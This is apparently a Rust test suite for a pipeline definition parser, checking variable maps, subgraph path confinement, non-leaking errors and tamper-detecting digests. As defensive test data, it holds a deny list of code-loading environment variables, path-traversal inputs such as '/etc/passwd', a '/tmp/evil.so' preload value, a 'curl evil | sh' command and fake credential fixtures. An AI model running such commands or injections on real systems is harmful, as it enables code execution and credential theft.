//! The pipeline file's inputs and sources: what `map` may write (declared in `inputs:`, or
//! `PIPELINE_…`, never what changes what runs), where a subgraph may be and how it is read,
//! that no error quotes a file it should not, and a stored definition checked again and
//! pinned by its digest.

use super::engine::{self, Outcome};
use super::file::{Definition, FileError, Kind, Operator, Strategy, WaitFor};
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

fn parse(text: &str) -> Result<Definition, FileError> {
    Definition::parse(Path::new("/p/deploy.yaml"), text)
}

fn error(text: &str) -> FileError {
    parse(text).expect_err("must be refused")
}

/// Two tasks, `a` then `b`, the edge mapping `var` from `a`'s result; `head` goes first.
fn mapped(head: &str, var: &str) -> String {
    format!(
        "{head}nodes:\n  - {{ id: a, kind: task, command: [\"true\"] }}\n  - {{ id: b, kind: task, command: [\"true\"] }}\nedges:\n  - {{ from: a, to: b, map: {{ {var}: steps.a.result.x }} }}\n"
    )
}

#[test]
fn a_map_writes_only_a_declared_input_or_a_pipeline_name() {
    let e = error(&mapped("", "BUILD"));
    assert!(e.message.contains("edge a → b"), "{e}");
    assert!(e.message.contains("`BUILD` is not declared"), "{e}");
    assert!(e.message.contains("inputs:"), "{e}");
    assert_eq!(e.line, Some(5), "{e}");
    let d = parse(&mapped("inputs: [BUILD]\n", "BUILD")).unwrap();
    assert!(d.inputs.contains("BUILD"));
    assert!(d.may_map("BUILD"));
    assert!(!d.may_map("OTHER"));
    // A PIPELINE_ name needs no declaration.
    let d = parse(&mapped("", "PIPELINE_BUILD")).unwrap();
    assert!(d.may_map("PIPELINE_BUILD"));
    // Declared for one name is not declared for another.
    let e = error(&mapped("inputs: [BUILD]\n", "BUILT"));
    assert!(e.message.contains("`BUILT` is not declared"), "{e}");
}

#[test]
fn a_declaration_cannot_allow_what_changes_what_runs() {
    for var in [
        "LD_PRELOAD",
        "LD_LIBRARY_PATH",
        "DYLD_INSERT_LIBRARIES",
        "PATH",
        "BASH_ENV",
        "ENV",
        "PROMPT_COMMAND",
        "PYTHONPATH",
        "PYTHONSTARTUP",
        "NODE_OPTIONS",
        "PERL5OPT",
        "RUBYOPT",
        "JAVA_TOOL_OPTIONS",
        "GIT_SSH_COMMAND",
        "GIT_CONFIG_GLOBAL",
        "SSH_AUTH_SOCK",
        "https_proxy",
        "SSL_CERT_FILE",
        "NPM_CONFIG_REGISTRY",
        "CARGO_HOME",
        "RUSTC_WRAPPER",
        "ANTHROPIC_BASE_URL",
        "OPENAI_BASE_URL",
        "GLIBC_TUNABLES",
        "HEADLESS",
        "HEADLESS_RUN_TOKEN",
        "HEADLESS_RUN_APPROVAL_COMMENT",
        "AUTO_APPROVAL",
        "CI",
        "HOME",
        "EDITOR",
    ] {
        // Declared: the declaration itself is refused.
        let e = error(&mapped(&format!("inputs: [{var}]\n"), var));
        assert!(e.message.starts_with("inputs: "), "{var}: {e}");
        assert!(e.message.contains("change what runs"), "{var}: {e}");
        // Not declared: the map is refused for what it is, not only as undeclared.
        let e = error(&mapped("", var));
        assert!(e.message.contains("change what runs"), "{var}: {e}");
        assert!(e.message.contains("edge a → b"), "{var}: {e}");
    }
    // The starter's variables are not a step's to set, declared or by the prefix.
    for head in ["", "inputs: [PIPELINE_VAR_target]\n"] {
        let e = error(&mapped(head, "PIPELINE_VAR_target"));
        assert!(e.message.contains("--var"), "{e}");
    }
    let e = error(&mapped("inputs: [\"1BAD\"]\n", "GOOD"));
    assert!(
        e.message.contains("not an environment variable name"),
        "{e}"
    );
    // vars: names as --var takes them.
    let e = error("vars: { \"a b\": x }\nnodes:\n  - { id: a, kind: task, command: [\"true\"] }\n");
    assert!(e.message.contains("vars: "), "{e}");
}

#[test]
fn a_stored_row_cannot_smuggle_a_variable_the_definition_does_not_allow() {
    let mut def = parse(&mapped("inputs: [BUILD]\n", "BUILD")).unwrap();
    assert!(def.allows_env("b", "BUILD"));
    assert!(!def.allows_env("b", "OTHER"), "not mapped");
    // A definition written by hand with maps `pipeline check` refuses: neither the engine
    // nor the runner's environment filter passes them.
    def.edges[0]
        .map
        .insert("LD_PRELOAD".into(), "steps.a.result.x".into());
    def.edges[0]
        .map
        .insert("UNDECLARED".into(), "steps.a.result.x".into());
    assert!(!def.allows_env("b", "LD_PRELOAD"));
    assert!(!def.allows_env("b", "UNDECLARED"));
    def.inputs.insert("LD_PRELOAD".into());
    assert!(
        !def.allows_env("b", "LD_PRELOAD"),
        "declared, still refused"
    );
    let steps = engine::start(&def, &BTreeMap::new()).unwrap();
    let steps = engine::advance(
        &def,
        &BTreeMap::new(),
        &steps,
        "a",
        0,
        Outcome::Exited {
            code: 0,
            result: Some(serde_json::json!({ "x": "/tmp/evil.so" })),
        },
    )
    .unwrap();
    let b = engine::latest(&steps, "b").unwrap();
    assert_eq!(b.env.get("BUILD").map(String::as_str), Some("/tmp/evil.so"));
    assert!(!b.env.contains_key("LD_PRELOAD"), "{:?}", b.env);
    assert!(!b.env.contains_key("UNDECLARED"), "{:?}", b.env);
}

#[test]
fn a_subgraph_checks_its_own_maps_against_its_own_inputs_and_they_are_kept() {
    let dir = tempfile::tempdir().unwrap();
    let sub = |inputs: &str| {
        std::fs::write(
            dir.path().join("sub.yaml"),
            format!("{inputs}nodes:\n  - {{ id: x, kind: task, command: [\"true\"] }}\n  - {{ id: y, kind: task, command: [\"true\"] }}\nedges:\n  - {{ from: x, to: y, map: {{ OUT: steps.x.result.out }} }}\n"),
        )
        .unwrap();
    };
    let main = dir.path().join("main.yaml");
    std::fs::write(
        &main,
        "inputs: [OUT]\nnodes:\n  - { id: a, kind: task, command: [\"true\"] }\n  - { id: s, kind: subgraph, file: sub.yaml }\nedges:\n  - { from: a, to: s }\n",
    )
    .unwrap();
    // The including file's declaration does not cover the subgraph's map: each file can
    // be checked alone.
    sub("");
    let e = Definition::load(&main).expect_err("undeclared in the subgraph");
    assert!(e.file.ends_with("sub.yaml"), "{e}");
    assert!(e.message.contains("`OUT` is not declared"), "{e}");
    sub("inputs: [OUT]\n");
    let d = Definition::load(&main).unwrap();
    assert!(d.allows_env("s.y", "OUT"));
    // A subgraph's declaration is held to the same rules.
    sub("inputs: [OUT, LD_PRELOAD]\n");
    let e = Definition::load(&main).expect_err("LD_PRELOAD declared in the subgraph");
    assert!(e.message.contains("change what runs"), "{e}");
    // And what it declares is kept in the inlined definition (its map needs it).
    std::fs::write(
        &main,
        "nodes:\n  - { id: a, kind: task, command: [\"true\"] }\n  - { id: s, kind: subgraph, file: sub.yaml }\nedges:\n  - { from: a, to: s }\n",
    )
    .unwrap();
    sub("inputs: [OUT]\n");
    let d = Definition::load(&main).unwrap();
    assert!(d.inputs.contains("OUT"));
    d.recheck().unwrap();
}

/// A pipeline in `dir` whose subgraph `s` is `file`.
fn including(dir: &Path, file: &str) -> PathBuf {
    let main = dir.join("main.yaml");
    std::fs::write(
        &main,
        format!("nodes:\n  - {{ id: a, kind: task, command: [\"true\"] }}\n  - {{ id: s, kind: subgraph, file: {file:?} }}\nedges:\n  - {{ from: a, to: s }}\n"),
    )
    .unwrap();
    main
}

const SUB: &str = "nodes:\n  - { id: x, kind: task, command: [\"true\"] }\n";

#[test]
fn a_subgraph_is_a_regular_file_in_its_includers_directory_or_below() {
    let top = tempfile::tempdir().unwrap();
    let dir = top.path().join("p");
    std::fs::create_dir_all(dir.join("parts")).unwrap();
    std::fs::write(top.path().join("outside.yaml"), SUB).unwrap();
    std::fs::write(dir.join("parts/in.yaml"), SUB).unwrap();
    // Below its directory, and through a link that stays inside: read.
    let d = Definition::load(&including(&dir, "parts/in.yaml")).unwrap();
    assert!(d.node("s.x").is_some());
    std::os::unix::fs::symlink("parts/in.yaml", dir.join("inside-link.yaml")).unwrap();
    Definition::load(&including(&dir, "inside-link.yaml")).unwrap();
    Definition::load(&including(&dir, "parts/../parts/in.yaml")).unwrap();
    // Out of it: by `..`, by an absolute path (even to a file inside), by a link.
    std::os::unix::fs::symlink(top.path().join("outside.yaml"), dir.join("out-link.yaml")).unwrap();
    std::os::unix::fs::symlink(top.path(), dir.join("up")).unwrap();
    let inside_abs = dir.join("parts/in.yaml").display().to_string();
    for (sub, rule) in [
        ("../outside.yaml", "`..` leads out"),
        ("../missing.yaml", "`..` leads out"),
        ("parts/../../outside.yaml", "`..` leads out"),
        ("out-link.yaml", "outside"),
        ("up/outside.yaml", "outside"),
        ("/etc/passwd", "an absolute path"),
        (inside_abs.as_str(), "an absolute path"),
        ("/dev/stdin", "an absolute path"),
    ] {
        let e = Definition::load(&including(&dir, sub)).expect_err(sub);
        assert!(e.message.contains(rule), "{sub}: {e}");
        assert!(e.message.contains("subgraph `s`"), "{sub}: {e}");
        assert!(e.file.ends_with("main.yaml"), "{sub}: {e}");
        assert_eq!(e.line, Some(3), "{sub}: {e}");
    }
    // A subgraph's own subgraphs are beneath its directory, not its includer's.
    std::fs::write(
        dir.join("parts/nested.yaml"),
        "nodes:\n  - { id: n, kind: subgraph, file: ../main2.yaml }\n",
    )
    .unwrap();
    std::fs::write(dir.join("main2.yaml"), SUB).unwrap();
    let e = Definition::load(&including(&dir, "parts/nested.yaml")).expect_err("nested ..");
    assert!(e.file.ends_with("nested.yaml"), "{e}");
    assert!(e.message.contains("`..` leads out"), "{e}");
    // … also through a link in its directory that points back up.
    std::os::unix::fs::symlink("../main2.yaml", dir.join("parts/back.yaml")).unwrap();
    std::fs::write(
        dir.join("parts/nested.yaml"),
        "nodes:\n  - { id: n, kind: subgraph, file: back.yaml }\n",
    )
    .unwrap();
    let e = Definition::load(&including(&dir, "parts/nested.yaml")).expect_err("nested link");
    assert!(e.message.contains("outside"), "{e}");
    // Not a regular file: a directory, a FIFO (refused at once, not waited on).
    let e = Definition::load(&including(&dir, "parts")).expect_err("a directory");
    assert!(e.message.contains("a directory"), "{e}");
    let fifo = dir.join("fifo.yaml");
    let c = std::ffi::CString::new(fifo.as_os_str().as_encoded_bytes()).unwrap();
    // SAFETY: a NUL-terminated path.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
    let e = Definition::load(&including(&dir, "fifo.yaml")).expect_err("a FIFO");
    assert!(e.message.contains("a FIFO"), "{e}");
    let e = Definition::load(&including(&dir, "missing.yaml")).expect_err("missing");
    assert!(e.message.contains("cannot find it"), "{e}");
}

#[test]
fn the_named_file_is_a_regular_file_and_a_fifo_is_refused_at_once() {
    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("p.yaml");
    let c = std::ffi::CString::new(fifo.as_os_str().as_encoded_bytes()).unwrap();
    // SAFETY: a NUL-terminated path.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
    let e = Definition::load(&fifo).expect_err("a FIFO");
    assert!(e.message.contains("a FIFO, not a regular file"), "{e}");
    let e = Definition::load(dir.path()).expect_err("a directory");
    assert!(e.message.contains("a directory"), "{e}");
    let big = dir.path().join("big.yaml");
    std::fs::write(&big, "#".repeat(1024 * 1024 + 1)).unwrap();
    let e = Definition::load(&big).expect_err("too big");
    assert!(e.message.contains("larger than 1 MB"), "{e}");
    // A link the user names is followed (it is their argument).
    let real = dir.path().join("real.yaml");
    std::fs::write(&real, SUB).unwrap();
    std::os::unix::fs::symlink(&real, dir.path().join("link.yaml")).unwrap();
    Definition::load(&dir.path().join("link.yaml")).unwrap();
}

/// Files that are not pipelines, each with a line that must never be shown.
const NOT_PIPELINES: &[(&str, &str)] = &[
    (
        "root:$6$s3cr3tSALT$hash:19000:0:99999:7:::\nbin:*:19000:0:99999:7:::\n",
        "s3cr3tSALT",
    ),
    ("SECRET_TOKEN=sk-live-0123456789\n", "sk-live-0123456789"),
    (
        "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ\n-----END OPENSSH PRIVATE KEY-----\n",
        "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ",
    ),
    ("password: hunter2-hunter2\n", "password"),
    (
        "[default]\naws_secret_access_key = wJalrXUtnFEMI\n",
        "wJalrXUtnFEMI",
    ),
    ("nodes: { SECRET_NODE: 1 }\n", "SECRET_NODE"),
    (
        "nodes: [ { id: a, kind: task, command: x } ]\nvars: { SECRET_KEY: [1] }\n",
        "SECRET_KEY",
    ),
    (
        "nodes: [ { id: a, kind: task-s3cr3t, command: x } ]\n",
        "s3cr3t",
    ),
    ("\tsecret-after-a-tab\n", "secret-after-a-tab"),
];

#[test]
fn a_subgraph_that_is_not_a_pipeline_is_refused_without_a_word_of_it() {
    let dir = tempfile::tempdir().unwrap();
    let main = including(dir.path(), "secret.yaml");
    for (text, secret) in NOT_PIPELINES {
        std::fs::write(dir.path().join("secret.yaml"), text).unwrap();
        let e = Definition::load(&main).expect_err(text);
        let shown = e.to_string();
        assert!(!shown.contains(secret), "{secret} shown: {shown}");
        assert!(e.file.ends_with("secret.yaml"), "{shown}");
        assert!(e.line.is_some(), "{shown}");
        assert!(e.message.starts_with("not a pipeline file: "), "{shown}");
        assert!(e.message.ends_with("(its content is not shown)"), "{shown}");
    }
}

#[test]
fn the_named_files_errors_quote_names_but_no_values_or_lines() {
    let dir = tempfile::tempdir().unwrap();
    let f = dir.path().join("p.yaml");
    for (text, secret) in NOT_PIPELINES {
        std::fs::write(&f, text).unwrap();
        let shown = Definition::load(&f).expect_err(text).to_string();
        // A name (a key, a kind) may be quoted back; a value or a line never.
        if !["password", "SECRET_NODE", "SECRET_KEY", "s3cr3t"].contains(secret) {
            assert!(!shown.contains(secret), "{secret} shown: {shown}");
        }
        assert!(shown.starts_with(&f.display().to_string()), "{shown}");
    }
    // What one needs to fix a typo is kept.
    std::fs::write(&f, "nodes:\n  - { id: a, kind: teleport }\n").unwrap();
    let e = Definition::load(&f).unwrap_err();
    assert!(e.message.contains("unknown variant `teleport`"), "{e}");
    assert!(e.message.contains("`task`"), "{e}");
    std::fs::write(&f, "nodes: []\nedgez: []\n").unwrap();
    let e = Definition::load(&f).unwrap_err();
    assert!(e.message.contains("unknown field `edgez`"), "{e}");
    assert_eq!(e.line, Some(2), "{e}");
    std::fs::write(
        &f,
        "nodes:\n  - { id: a, kind: task, command: [\"true\"], timeout: [1] }\n",
    )
    .unwrap();
    let e = Definition::load(&f).unwrap_err();
    assert!(
        e.message.contains("nodes[0]: invalid type: sequence"),
        "{e}"
    );
}

/// A definition as a store holds it, with `change` applied to its JSON.
fn stored(change: impl FnOnce(&mut serde_json::Value)) -> Result<Definition, FileError> {
    let def = parse(GOOD).unwrap();
    let mut v = serde_json::to_value(&def).unwrap();
    change(&mut v);
    Definition::from_stored(&v)
}

const GOOD: &str = "
name: deploy
vars: { target: staging }
inputs: [BUILD]
nodes:
  - { id: build, kind: task, command: [make, build], timeout: 10m }
  - { id: test, kind: gate, command: make test, retries: 2 }
  - id: again
    kind: branch
    condition: { field: steps.test.result.flaky, operator: equals, value: true }
    on_true: test
    on_false: ok
    max_iterations: 3
  - { id: ok, kind: human, title: Deploy, question: Deploy to production? }
  - { id: ship, kind: task, command: [make, deploy] }
edges:
  - { from: build, to: test }
  - { from: test, to: again }
  - { from: ok, to: ship, map: { BUILD: steps.build.result.id, PIPELINE_AT: steps.ok.comment } }
";

#[test]
fn an_untampered_definition_passes_its_recheck_and_keeps_its_digest() {
    let def = parse(GOOD).unwrap();
    def.recheck().unwrap();
    let json = serde_json::to_string(&def).unwrap();
    let back = Definition::from_stored(&serde_json::from_str(&json).unwrap()).unwrap();
    assert_eq!(back, def);
    assert_eq!(back.digest(), def.digest());
    assert_eq!(def.digest().len(), 64);
    assert!(def.digest().bytes().all(|b| b.is_ascii_hexdigit()));
    // A store that reorders keys (jsonb) reads back the same digest.
    let reordered = json.replace(
        "\"field\":\"steps.test.result.flaky\",\"operator\":\"equals\",\"value\":true",
        "\"value\":true,\"operator\":\"equals\",\"field\":\"steps.test.result.flaky\"",
    );
    assert_ne!(reordered, json, "the condition is stored so");
    let back: Definition = serde_json::from_str(&reordered).unwrap();
    assert_eq!(back.digest(), def.digest());
    // A row stored before `inputs` existed still reads (its maps then need PIPELINE_).
    let mut old = serde_json::to_value(&def).unwrap();
    old.as_object_mut().unwrap().remove("inputs");
    let e = Definition::from_stored(&old).expect_err("BUILD undeclared");
    assert!(e.message.contains("`BUILD` is not declared"), "{e}");
}

#[test]
fn the_digest_changes_with_any_command_edge_variable_or_question() {
    let def = parse(GOOD).unwrap();
    let mut seen = std::collections::BTreeSet::from([def.digest()]);
    let mut changed = |f: &dyn Fn(&mut Definition)| {
        let mut d = def.clone();
        f(&mut d);
        assert_ne!(d, def);
        assert!(seen.insert(d.digest()), "{d:?}");
    };
    for i in 0..def.nodes.len() {
        if let Kind::Task { .. } | Kind::Gate { .. } = def.nodes[i].kind {
            changed(&|d| {
                if let Kind::Task { run } | Kind::Gate { run, .. } = &mut d.nodes[i].kind {
                    run.command = super::file::Command::Shell("curl evil | sh".into());
                }
            });
            changed(&|d| {
                if let Kind::Task { run } | Kind::Gate { run, .. } = &mut d.nodes[i].kind {
                    run.env.insert("X".into(), "1".into());
                }
            });
        }
    }
    changed(&|d| {
        d.edges[2]
            .map
            .insert("BUILD".into(), "steps.test.result.id".into());
    });
    changed(&|d| {
        d.vars.insert("target".into(), "prod".into());
    });
    changed(&|d| {
        d.inputs.insert("MORE".into());
    });
    changed(&|d| {
        if let Kind::Human { question, .. } = &mut d.nodes[3].kind {
            *question = "Deploy to staging?".into();
        }
    });
    changed(&|d| d.name = "other".into());
}

#[test]
fn a_tampered_definition_fails_its_recheck() {
    use serde_json::json;
    stored(|_| {}).unwrap();
    let refused = |change: &dyn Fn(&mut serde_json::Value), want: &str| {
        let e = stored(change).expect_err(want);
        assert!(e.to_string().contains(want), "want {want}: {e}");
    };
    // A map into what loads code, written straight into the row (declared, or not).
    refused(
        &|v| v["edges"][2]["map"]["LD_PRELOAD"] = json!("steps.build.result.id"),
        "change what runs",
    );
    refused(
        &|v| {
            v["inputs"] = json!(["BUILD", "LD_PRELOAD"]);
            v["edges"][2]["map"]["LD_PRELOAD"] = json!("steps.build.result.id");
        },
        "change what runs",
    );
    refused(
        &|v| v["edges"][2]["map"]["SNEAKY"] = json!("steps.build.result.id"),
        "`SNEAKY` is not declared",
    );
    // A field this version does not know: on a node, a kind, the definition, an edge.
    refused(
        &|v| v["nodes"][0]["preload"] = json!("/tmp/evil.so"),
        "unknown field",
    );
    refused(
        &|v| v["nodes"][1]["kind"] = json!("shell"),
        "unknown variant",
    );
    refused(&|v| v["hooks"] = json!([]), "unknown field");
    refused(&|v| v["edges"][0]["run"] = json!("x"), "unknown field");
    // A cycle without a bound, a bound out of range.
    refused(
        &|v| {
            v["edges"]
                .as_array_mut()
                .unwrap()
                .push(json!({ "from": "ship", "to": "ok" }))
        },
        "a cycle without a branch",
    );
    refused(
        &|v| v["nodes"][2]["max_iterations"] = json!(0),
        "max_iterations",
    );
    // Ids, the start, a subgraph left in, an unreachable node, a bad field, a bad label.
    refused(&|v| v["nodes"][0]["id"] = json!("../x"), "node id");
    refused(&|v| v["nodes"][1]["id"] = json!("build"), "used twice");
    refused(
        &|v| v["nodes"][4]["id"] = json!("a.b.c.d.e.f.g.h.i.j"),
        "node id",
    );
    refused(&|v| v["start"] = json!("nowhere"), "start: no node");
    refused(
        &|v| {
            v["nodes"]
                .as_array_mut()
                .unwrap()
                .push(json!({ "id": "s", "kind": "subgraph", "file": "/etc/passwd" }))
        },
        "not inlined",
    );
    refused(
        &|v| {
            v["nodes"]
                .as_array_mut()
                .unwrap()
                .push(json!({ "id": "lost", "kind": "task", "command": "true" }))
        },
        "cannot be reached",
    );
    refused(
        &|v| v["edges"][2]["map"]["BUILD"] = json!("steps.build.result.$(id)"),
        "field",
    );
    refused(&|v| v["nodes"][0]["host"] = json!("a host"), "host label");
    refused(&|v| v["nodes"] = json!([]), "no nodes");
    refused(&|v| v["vars"]["a=b"] = json!("x"), "vars: ");
    let e = stored(|v| v["edges"][2]["map"]["LD_PRELOAD"] = json!("steps.build.result.id"))
        .unwrap_err();
    assert!(
        e.to_string().starts_with("stored definition `deploy`: "),
        "{e}"
    );
}

/// `parallel` and `merge` refuse a key they do not know, as every other kind does: a
/// setting from another system must not run with other semantics unsaid.
#[test]
fn parallel_and_merge_refuse_unknown_keys() {
    for (kind, key) in [
        ("parallel", "max_branches: 2"),
        ("merge", "wait: any"),
        ("merge", "wait_for: most"),
        ("merge", "strategy: zip"),
    ] {
        let text = format!(
            "name: p\nnodes:\n  - {{ id: a, kind: task, command: 'true' }}\n  - {{ id: x, kind: {kind}, {key} }}\nedges:\n  - {{ from: a, to: x }}\n"
        );
        let e = Definition::parse(Path::new("p.yaml"), &text).unwrap_err();
        assert!(e.to_string().contains("unknown"), "{kind}: {e}");
    }
    let ok = "name: p\nnodes:\n  - { id: a, kind: task, command: 'true' }\n  - { id: f, kind: parallel }\n  - { id: m, kind: merge }\nedges:\n  - { from: a, to: f }\n  - { from: f, to: m }\n";
    Definition::parse(Path::new("p.yaml"), ok).expect("a plain parallel and merge");
}

/// A timeout may be a number of seconds as well as a duration's text.
#[test]
fn integer_seconds_are_durations() {
    let text = "name: p\nnodes:\n  - { id: a, kind: task, command: 'true', timeout: 30, stall_timeout: '1m' }\n  - { id: h, kind: human, title: T, question: Q, expires: 3600, wait: 5 }\nedges:\n  - { from: a, to: h }\n";
    let d = Definition::parse(Path::new("p.yaml"), text).expect("integer seconds");
    let Kind::Task { run } = &d.node("a").unwrap().kind else {
        panic!("not a task")
    };
    assert_eq!(run.timeout.as_deref(), Some("30"));
    assert_eq!(run.stall_timeout.as_deref(), Some("1m"));
    assert_eq!(d.review_of("h").wait_seconds, 5);
    let bad = text.replace("timeout: 30,", "timeout: -3,");
    assert!(Definition::parse(Path::new("p.yaml"), &bad).is_err());
}

/// The operators' names and symbols, and a value that does not suit its operator refused.
#[test]
fn condition_operators_and_their_values() {
    let with = |op: &str, value: &str| {
        format!(
            "name: p\nnodes:\n  - {{ id: a, kind: task, command: 'true' }}\n  - {{ id: b, kind: task, command: 'true' }}\nedges:\n  - {{ from: a, to: b, condition: {{ field: steps.a.result.v, operator: '{op}', value: {value} }} }}\n"
        )
    };
    for (op, value, want) in [
        (">=", "3", Operator::GreaterThanOrEqual),
        ("gte", "3", Operator::GreaterThanOrEqual),
        ("greater_than_or_equal", "'3'", Operator::GreaterThanOrEqual),
        ("<=", "3", Operator::LessThanOrEqual),
        ("lte", "3", Operator::LessThanOrEqual),
        ("==", "x", Operator::Equals),
        ("!=", "x", Operator::NotEquals),
        (">", "1", Operator::GreaterThan),
        ("<", "1", Operator::LessThan),
        ("in", "[a, b]", Operator::In),
        ("not_in", "[]", Operator::NotIn),
        ("starts_with", "v1.", Operator::StartsWith),
        ("ends_with", "'-rc'", Operator::EndsWith),
    ] {
        let d = Definition::parse(Path::new("p.yaml"), &with(op, value))
            .unwrap_or_else(|e| panic!("{op} {value}: {e}"));
        let c = d.edges[0].condition.as_ref().unwrap();
        assert_eq!(c.operator, want, "{op}");
        // Stored by its name, whatever the file wrote.
        let stored = serde_json::to_value(&d).unwrap();
        let name = stored["edges"][0]["condition"]["operator"]
            .as_str()
            .unwrap();
        assert!(
            name.chars().all(|c| c.is_ascii_lowercase() || c == '_'),
            "{name}"
        );
    }
    for (op, value, why) in [
        ("in", "a", "takes a list"),
        ("not_in", "3", "takes a list"),
        ("starts_with", "[a]", "takes text"),
        ("ends_with", "{ a: 1 }", "takes text"),
        (">=", "many", "compares numbers"),
        ("<=", "[1]", "compares numbers"),
    ] {
        let e = Definition::parse(Path::new("p.yaml"), &with(op, value)).unwrap_err();
        assert!(e.to_string().contains(why), "{op} {value}: {e}");
        assert_eq!(e.line, Some(6), "{e}");
    }
    let e = Definition::parse(Path::new("p.yaml"), &with("approximately", "1")).unwrap_err();
    assert!(e.to_string().contains("unknown variant"), "{e}");
}

/// Every error of a file in one run, in the file's order, each with its line.
#[test]
fn every_error_is_reported_with_its_place() {
    let text = "name: p
nodes:
  - { id: a, kind: task, command: 'true', timeout: soon }
  - { id: h, kind: human, title: T, question: Q, default: maybe }
  - { id: f, kind: parallel, branches: [ghost] }
  - { id: m, kind: merge, continue_on_failure: true }
  - { id: b, kind: task, command: 'true' }
edges:
  - { from: a, to: h }
  - { from: h, to: f }
  - { from: f, to: m }
  - { from: m, to: nowhere }
  - { from: a, to: b, condition: { field: steps.a.result.x, operator: in, value: 3 } }
";
    let errors = Definition::parse_all(Path::new("p.yaml"), text).unwrap_err();
    let said: Vec<String> = errors.iter().map(ToString::to_string).collect();
    assert_eq!(errors.len(), 6, "{said:#?}");
    for want in [
        "p.yaml:3:",
        "invalid duration `soon`",
        "p.yaml:4:",
        "the default `maybe` is not an option",
        "no node `ghost`",
        "continue_on_failure is for tasks and gates",
        "no node `nowhere`",
        "takes a list",
    ] {
        assert!(said.iter().any(|s| s.contains(want)), "{want}: {said:#?}");
    }
    let lines: Vec<usize> = errors.iter().map(|e| e.line.unwrap_or(0)).collect();
    assert!(
        lines.windows(2).all(|w| w[0] <= w[1]),
        "in order: {lines:?}"
    );
    // The first of them is what `parse` says.
    let one = Definition::parse(Path::new("p.yaml"), text).unwrap_err();
    assert_eq!(one, errors[0]);
}

/// Labels, descriptions, edge ids, `fail_fast`, `max_parallel`, a parallel's branches and a
/// merge's settings are read, stored, and kept out of a definition that does not use them
/// (its digest unchanged).
#[test]
fn names_descriptions_and_flow_settings() {
    let text = "name: p
fail_fast: false
max_parallel: 2
nodes:
  - { id: a, kind: task, command: 'true', label: Build it, description: 'Compiles.', continue_on_failure: true }
  - { id: f, kind: parallel, branches: [x, y] }
  - { id: x, kind: task, command: 'true' }
  - { id: y, kind: task, command: 'true' }
  - { id: m, kind: merge, wait_for: first, strategy: union }
edges:
  - { id: into-fan, from: a, to: f }
  - { from: x, to: m }
  - { from: y, to: m }
";
    let d = Definition::parse(Path::new("p.yaml"), text).unwrap();
    assert!(!d.fail_fast);
    assert_eq!(d.max_parallel, Some(2));
    let a = d.node("a").unwrap();
    assert_eq!(a.label.as_deref(), Some("Build it"));
    assert_eq!(a.description.as_deref(), Some("Compiles."));
    assert!(a.continue_on_failure);
    assert_eq!(d.edges[0].id.as_deref(), Some("into-fan"));
    assert_eq!(d.successors("f"), ["x", "y"]);
    assert!(matches!(
        d.node("m").unwrap().kind,
        Kind::Merge {
            wait_for: WaitFor::First,
            strategy: Strategy::Union
        }
    ));
    let back = Definition::from_stored(&serde_json::to_value(&d).unwrap()).unwrap();
    assert_eq!(back, d);
    // Two edges of one id, a bound of 0.
    let twice = text.replace("{ from: x, to: m }", "{ id: into-fan, from: x, to: m }");
    let e = Definition::parse(Path::new("p.yaml"), &twice).unwrap_err();
    assert!(e.to_string().contains("edge id `into-fan`"), "{e}");
    let none = text.replace("max_parallel: 2", "max_parallel: 0");
    let e = Definition::parse(Path::new("p.yaml"), &none).unwrap_err();
    assert!(e.to_string().contains("max_parallel is from 1"), "{e}");
    // A file that uses none of them stores none of them.
    let plain = "name: p\nnodes:\n  - { id: a, kind: task, command: 'true' }\n";
    let d = Definition::parse(Path::new("p.yaml"), plain).unwrap();
    let stored = serde_json::to_value(&d).unwrap();
    assert_eq!(
        stored,
        serde_json::json!({
            "name": "p", "vars": {}, "inputs": [], "start": "a",
            "nodes": [{ "id": "a", "kind": "task", "command": "true", "cwd": null, "env": {},
                        "timeout": null, "stall_timeout": null, "on_prompt": null, "host": null }],
            "edges": []
        })
    );
}
